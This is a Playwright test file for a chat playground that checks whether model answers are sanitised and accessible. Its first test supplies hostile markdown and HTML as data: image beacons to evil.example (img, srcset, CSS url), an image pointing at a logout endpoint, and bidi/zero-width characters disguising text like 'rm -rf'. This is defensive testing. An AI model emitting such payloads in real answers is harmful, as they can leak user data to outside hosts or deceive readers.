import type { Locator, Page } from '@playwright/test'
import { HttpResponse } from 'msw'
import { watchOrigin } from '../content/hostile-page'
import { expect, type TestGateway, test, userOf } from '../fixtures'
import { expectAccessible } from '../pages/accessible'
import { full } from '../thorough'

test.beforeEach(async ({ gateway, signIn }) => {
  await signIn('user')
  const me = userOf(gateway, 'user')
  const token = gateway.db.tokens.find(({ user_id }) => user_id === me.id)
  Object.assign(token ?? {}, { status: 1, expired_time: -1, unlimited_quota: true, models: '' })
})

/** Asks a model that answers with `content`; returns the answer's element. */
async function askFor(page: Page, gateway: TestGateway, content: string) {
  gateway.answer('POST /v1/chat/completions', () =>
    HttpResponse.json({ choices: [{ message: { content } }] }),
  )
  await page.goto('/playground')
  await page.getByRole('combobox', { name: '模型' }).fill('gpt-4')
  await page.getByRole('textbox', { name: '消息' }).fill('你好')
  await page.getByRole('button', { name: '发送' }).click()
  return page.getByRole('list', { name: '对话' }).getByRole('listitem').nth(1)
}

test('an answer sends no requests', full, async ({ page, gateway, expectConsole, expectViolation }) => {
  // Chromium reports the inline style that the sanitiser removes.
  expectConsole(/Applying inline style violates/)
  expectViolation(/^style-src-attr inline $/)
  const foreignRequests = watchOrigin(page)
  const answer = await askFor(
    page,
    gateway,
    [
      '**好** ![画](https://evil.example/a.png?q=你好) ![](http://evil.example/b.png)',
      '[![图标](//evil.example/c.png)](https://docs.example/)',
      '<img src="https://evil.example/d.png" srcset="https://evil.example/e.png 2x">',
      '<p background="https://evil.example/f.png" style="background:url(https://evil.example/g.png)">',
      '![自己的](/api/user/logout) <video src="https://evil.example/h.mp4" autoplay></video>',
      '付款给 **\u202ecba\u202c**，`rm\u200b -rf`，&#x2066;，<bdo dir="rtl">321</bdo>，עברית [链接](https://a.example "\u202ex")',
    ].join('\n\n'),
  )
  await test.step('shows pictures as links', async () => {
    await expect(answer.getByText('好', { exact: true })).toHaveCSS('font-weight', '500')
    const pictures = answer.getByRole('link', { name: /^图片/ })
    await expect(pictures).toHaveText([
      '图片：画（evil.example）',
      '图片：（evil.example）',
      '图片：图标（evil.example）',
      '图片：（evil.example）',
    ])
    await expect(pictures.first()).toHaveAttribute('href', 'https://evil.example/a.png?q=%E4%BD%A0%E5%A5%BD')
    await expect(pictures.first()).toHaveAttribute('rel', 'noopener noreferrer')
    await expect(answer.getByText('图片：自己的')).not.toHaveAttribute('href')
    await expect(answer.locator('img')).toHaveCount(0)
    const lookups = page.locator('meta[http-equiv=x-dns-prefetch-control]')
    await expect(lookups).toHaveAttribute('content', 'off')
  })
  await test.step('shows invisible characters by code point', async () => {
    await expect(answer.getByRole('link', { name: '链接' })).toHaveAttribute('title', '[U+202E]x')
    for (const mark of ['U+202E', 'U+202C', 'U+200B', 'U+2066']) {
      await expect(answer.getByText(mark, { exact: true })).toHaveAttribute('title', /不可见字符/)
    }
    await expect(answer.locator('bdi')).toHaveText('עברית')
    await expect(answer.locator('[dir]')).toHaveCount(0)
    expect(await answer.textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/)
  })
  expect(foreignRequests).toEqual([])

  await test.step('shows an answer of ten megabytes in pieces', async () => {
    const long = await askFor(page, gateway, `开头${'很长 '.repeat(3_500_000)}结尾`)
    await expect(long).toContainText('内容过长或过于复杂，按原文显示')
    await expect(long).toContainText('开头')
    const more = long.getByRole('button', { name: '显示更多' })
    await more.click()
    await expect(more).toContainText('20000 / 10500004')
    const message = page.getByRole('textbox', { name: '消息' })
    await message.fill('然后')
    await expect(message).toHaveValue('然后')
  })
})

test('headings, tables and code of an answer are accessible', full, async ({ page, gateway }) => {
  await page.setViewportSize({ width: 320, height: 568 })
  const answer = await askFor(
    page,
    gateway,
    [
      '# **一**\n\n<h2 align="center">二</h2>\n\n<p role="heading" aria-level="1">段</p>',
      `|${' a |'.repeat(20)}\n|${'---|'.repeat(20)}\n|${' b |'.repeat(20)}`,
      '- [ ] 备份\n- [x] 升级\n\n- [x] **恢复**',
      `\`\`\`\n${'x'.repeat(200)}\n\`\`\`\n\n\`\`\`\nx\n\`\`\``,
    ].join('\n\n'),
  )
  await expect(answer.getByRole('heading')).toHaveText(['一', '二'])
  await expect(answer.locator('h2, h3')).toHaveText(['一', '二'])
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('试用')
  await expect(answer.getByRole('listitem')).toHaveText(['☐ 备份', '☑ 升级', '☑ 恢复'])
  await expect(answer.getByRole('table', { name: '表格' })).toHaveAttribute('tabindex', '0')
  const [long, short] = await answer.getByRole('group', { name: '代码' }).all()
  await expect(long as Locator).toHaveAttribute('tabindex', '0')
  await expect(short as Locator).not.toHaveAttribute('tabindex')
  await expectAccessible(page)
})
